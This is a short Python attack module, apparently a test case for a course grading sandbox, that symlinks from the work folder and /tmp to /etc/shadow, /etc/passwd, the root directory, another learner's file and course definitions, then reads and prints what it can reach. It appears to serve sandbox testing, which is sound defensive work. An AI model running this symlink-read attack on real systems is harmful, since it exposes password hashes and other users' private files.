"""Symlinks from the work folder and /tmp to another learner's file,
/etc/shadow, /etc/passwd and the course's definitions; read through them."""
import os

WHEN = "first call"


def _attack():
    report = []
    for i, target in enumerate(CTX["read"] + ["/etc/shadow", "/etc/passwd", "/"]):
        for where in (".", "/tmp"):
            link = os.path.join(where, f"link{i}")
            try:
                os.symlink(target, link)
                if os.path.isdir(link):
                    report.append(f"LS {target}: {os.listdir(link)}")
                else:
                    with open(link) as f:
                        report.append("READ " + f.read()[:500])
            except OSError as e:
                report.append(f"could not read {target}: {type(e).__name__}")
    print("\n".join(report))
